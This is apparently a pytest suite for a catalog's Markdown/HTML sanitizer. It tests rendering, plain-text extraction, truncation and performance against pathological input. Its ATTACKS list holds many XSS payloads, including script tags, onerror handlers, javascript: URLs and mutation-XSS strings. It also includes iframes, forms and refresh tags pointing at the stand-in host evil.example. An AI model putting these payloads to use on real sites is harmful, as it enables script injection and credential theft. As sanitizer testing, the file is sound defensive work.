"""Texts of records as safe HTML and as plain words."""

import re
from time import process_time

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from catalog.vocabulary.prose import opening, plain, render, summary
from catalog.vocabulary.text import tidy

MANY = settings(max_examples=20 * settings.default.max_examples)

RELATION = 'rel="nofollow noopener noreferrer"'
ALLOWED = {
    "a": {"href", "rel"},
    "ol": {"start"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
    "div": {"class", "role", "tabindex", "aria-label"},
    **{name: set() for name in ("p", "h3", "h4", "h5", "h6", "ul", "li", "blockquote", "pre", "hr", "br", "wbr")},
    **{name: set() for name in ("table", "thead", "tbody", "tfoot", "tr", "strong", "em", "code", "del", "sub", "sup")},
}
BOX = {"class": "table-scroll", "role": "group", "tabindex": "0", "aria-label": "Table"}


def assert_safe(html: str) -> None:
    """That `html` is valid and holds only what `render` may give."""
    parser = html5lib.HTMLParser(namespaceHTMLElements=False)
    tree = parser.parseFragment(html)
    assert parser.errors == [], html[:500]
    for element in tree.iter():
        if element is tree:
            continue
        assert element.tag in ALLOWED, html[:500]
        assert element.attrib.keys() <= ALLOWED[element.tag], html[:500]
        if element.tag == "a" and "href" in element.attrib:
            assert re.match(r"(?:https?://|mailto:)", element.attrib["href"], re.IGNORECASE)
            assert element.attrib["rel"] == "nofollow noopener noreferrer"
        if element.tag == "div":
            assert element.attrib == BOX


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("", ""),
        (" \n\u200b ", ""),
        ("Just a sentence.", "<p>Just a sentence.</p>"),
        ("# Title\n\nText with **bold**.", "<h3>Title</h3>\n<p>Text with <strong>bold</strong>.</p>"),
        ("<p>Text &amp; <b>bold</b></p>", "<p>Text &amp; <strong>bold</strong></p>"),
        ("Markdown with <br><br> tags and `<br>`", "<p>Markdown with</p>\n<p>tags and <code>&lt;br&gt;</code></p>"),
        ("x < y > z & <unknown>", "<p>x &lt; y &gt; z &amp; &lt;unknown&gt;</p>"),
        (
            "see https://example.org/a.",
            f'<p>see <a href="https://example.org/a" {RELATION}>https://example.org/a</a>.</p>',
        ),
        ("![A map](https://example.org/a.png)", f'<p><a href="https://example.org/a.png" {RELATION}>A map</a></p>'),
        (
            "| a |\n|---|\n| 1 |",
            '<div class="table-scroll" role="group" tabindex="0" aria-label="Table"><table><thead><tr><th>a</th></tr>'
            "</thead><tbody><tr><td>1</td></tr></tbody></table></div>",
        ),
    ],
)
def test_markdown_html_and_plain_text_become_html(text, html):
    assert render(text) == html


ATTACKS = (
    *("<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>"),
    *("<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<a href=javascript:alert(1)>x</a>"),
    *("<a href='java\tscript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "[x](javascript:alert(1))"),
    *("[x](data:text/html;base64,PHNjcmlwdD4=)", "<javascript:alert(1)>", "![x](javascript:alert(1))"),
    *(
        '<div style="position:fixed;inset:0">x</div>',
        "<p onclick=alert(1)>x</p>",
        "<iframe src=//evil.example></iframe>",
    ),
    *("<form action=//evil.example><input name=password><button>x</button></form>", "<base href=//evil.example>"),
    *("<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example>"),
    *("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",),
    *(
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template><img src=x onerror=alert(1)></template>",
    ),
    *("<a href='https://example.org\" onmouseover=\"alert(1)'>x</a>", '[x](<https://example.org/" onclick="alert(1)>)'),
    *(
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<![CDATA[<script>]]>",
    ),
    *(
        "<style>@import '//evil.example'</style>x",
        "<p id=search class=btn name=x>x</p>",
        "<scr<script>ipt>alert(1)</script>",
    ),
    *(
        '<a href="/admin/delete">x</a>',
        "[x](/sign-out)",
        "[x](//evil.example)",
        "<plaintext><p>x",
        "<!--><img src=x>-->",
    ),
    *('"><img src=x onerror=alert(1)>', "`<img src=x onerror=alert(1)>`", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    *(
        "<div class=table-scroll role=alert tabindex=5 aria-label=Sign-in>x</div>",
        "<table background=javascript:alert(1)><td>x",
    ),
)


@pytest.mark.parametrize("text", ATTACKS)
@pytest.mark.parametrize("frame", ["{}", "# Heading\n\n{}\n", "<p>before</p>{}<p>after</p>", "<ul><li>{}"])
def test_an_attack_leaves_nothing_but_words(text, frame):
    assert_safe(render(frame.format(text)))


PIECES = st.sampled_from(
    [
        *(
            "<p>",
            "</p>",
            "<b>",
            "</b>",
            "<a href=",
            "</a>",
            '"',
            "'",
            ">",
            "<",
            "</",
            "<!--",
            "-->",
            "javascript:alert(1)",
        ),
        *(
            "https://example.org/",
            "<table>",
            "<tr>",
            "<td>",
            "</table>",
            "<ul>",
            "<li>",
            "</ul>",
            "<script>",
            "</script>",
        ),
        *(
            "<svg>",
            "</svg>",
            "<style>",
            "</style>",
            " onerror=",
            " style=",
            "[x](",
            ")",
            "![",
            "](",
            "`",
            "```\n",
            "**",
            "_",
        ),
        *(
            "\n",
            "\n\n",
            "# ",
            "> ",
            "- ",
            "1. ",
            "| a |\n|---|\n",
            "<img src=",
            " alt=",
            "&lt;",
            "&#60;",
            "&#x3c;",
            "\x00",
        ),
        *(
            "word ",
            "é",
            "\u202e",
            "<pre>",
            "</pre>",
            "<h1>",
            "</h1>",
            "<blockquote>",
            "<br>",
            "<hr>",
            "<math>",
            "<template>",
        ),
    ]
)


@pytest.mark.long
@given(st.lists(PIECES, max_size=40).map("".join))
@MANY
def test_no_text_becomes_anything_but_safe_and_valid_html(text):
    html = render(text)
    assert_safe(html)
    assert_safe(opening(html, 10))
    assert not re.search("[\x00-\x08\u202e]", html)


@pytest.mark.long
@given(st.text())
@MANY
def test_words_without_marks_stay_as_they_are(text):
    words = " ".join(re.sub(r"[^\w ]|_", "", text).split())
    letters = f"a {words} z"
    assert plain(letters) == " ".join(letters.split())


@pytest.mark.parametrize(
    ("text", "words"),
    [
        (
            "# Title\n\nText with **bold**, `code` and [a link](https://example.org).",
            "Title Text with bold, code and a link.",
        ),
        ("<p>One&nbsp;two<br>three</p><ul><li>four</li></ul>", "One two three four"),
        ("x &lt; y &amp;amp; z", "x < y &amp; z"),
        ("[![Badge](https://example.org/b.svg)](https://example.org) Text", "Text"),
        ("un<b>believ</b>able", "unbelievable"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "a b 1 2"),
        ("<script>x</script>", ""),
        ("see https://example.org/a>b", "see https://example.org/a>b"),
    ],
)
def test_plain_words_have_no_marks(text, words):
    assert plain(text) == words


def test_a_summary_is_the_subtitle_or_else_the_beginning_of_the_overview():
    assert summary("A *map* of trees", "Overview") == "A map of trees"
    assert summary(None, "**Trees** of the city.") == "Trees of the city."
    assert summary("  ", "<p>word </p>" * 100) == " ".join(["word"] * 40) + "…"
    assert summary("", None) is None
    assert summary(None, "<p> </p>") is None
    assert len(summary(None, "x" * 500)) == 200


@pytest.mark.parametrize(
    ("html", "limit", "beginning"),
    [
        ("<p>short</p>", 100, "<p>short</p>"),
        ("<p>aaaa</p>\n<p>bbbb</p>\n<p>cccc</p>", 6, "<p>aaaa</p>\n<p>bbbb</p>"),
        ("<h3>aaaaaa</h3>\n<p>bb</p>\n<p>c</p>", 5, "<h3>aaaaaa</h3>\n<p>bb</p>"),
        ("<ul><li>aaaa</li><li>bbbb</li></ul>", 3, "<ul><li>aaaa</li></ul>"),
        ("<p>aaaa</p>\n", 3, "<p>aaaa</p>\n"),
        ("<p><strong>aa aa aa aa aa aa</strong></p>", 4, "<p><strong>aa aa…</strong></p>"),
    ],
)
def test_the_opening_ends_where_a_block_ends(html, limit, beginning):
    assert opening(html, limit) == beginning


@pytest.mark.parametrize(("unit", "end"), [("word ", "word…"), ("語", "語…"), ("y&amp;", "y&amp;y&amp;y…")])
def test_the_opening_of_one_endless_paragraph_is_cut_between_words_or_characters(unit, end):
    beginning = opening(render(unit * 10_000))
    assert_safe(beginning)
    assert beginning.endswith(f"{end}</p>")
    assert 3_900 < len(beginning) < 4_100


HOSTILE = (
    *(
        "<div>",
        "<ul><li>",
        "<b><i>",
        "<table><tr><td>",
        "<blockquote>",
        '<p title="</p>">',
        "<a href=https://x>",
        "&",
        "<",
    ),
    *("[", "![[", "*a **a ", "`a", "> ", "- a\n", "|a|\n|-|\n", "https://a.b/(((", "a\n", "# a\n", "\u200b"),
)


@pytest.mark.parametrize("unit", HOSTILE)
def test_takes_time_in_proportion_to_the_text(unit):
    def seconds(length: int) -> float:
        started = process_time()
        render(unit * (length // len(unit)))
        return process_time() - started

    assert seconds(40_000) < 25 * seconds(4_000) + 2


def test_an_endless_word_is_set_whole_and_soon():
    started = process_time()
    html = render("&" * 600_000)
    assert html.replace("<wbr>", "") == f"<p>{'&amp;' * 600_000}</p>"
    assert process_time() - started < 20
    assert plain("&" * 30_000) == "&" * 30_000


def test_a_text_of_marks_alone_is_set_as_lines_in_a_few_seconds():
    started = process_time()
    assert render("[\n" * 300_000).startswith("<p>[<br>[")
    assert process_time() - started < 20


@pytest.mark.real_records
def test_real_texts_are_safe_and_valid_and_lose_no_words(records):
    longest = max(records, key=lambda record: len(record["metadata"]["overview"] or ""))
    for record in [*records[::25], longest]:
        for text in record["metadata"].values():
            if isinstance(text, str):
                html = render(text)
                assert_safe(html if len(html) < 50_000 else opening(html, 20_000))
                assert_safe(opening(html))
                if not re.search(r"[<&\[\]`*_#|~\\]", text):
                    assert set(re.findall(r"\w{3,}", tidy(text))) == set(re.findall(r"\w{3,}", plain(text)))


@MANY
@given(st.from_regex(r"[^\W\d_][\w ,.;:!?()'\"/%@+=$°€–—‘’“”„…-]*", fullmatch=True))
def test_words_without_a_mark_are_set_as_they_are_beside_others(words):
    assert render(f"{words}\n\n&") == f"{render(words)}\n<p>&amp;</p>"
    assert plain(f"{words}\n\n&") == f"{plain(words)} &"


@pytest.mark.parametrize("words", ["Trees  of\ttown", "a_b_ c", "see https://a.example/b now", "A " * 6_000])
def test_words_that_are_nearly_so_are_set_beside_others_too(words):
    assert render(f"{words}\n\n&") == f"{render(words)}\n<p>&amp;</p>"
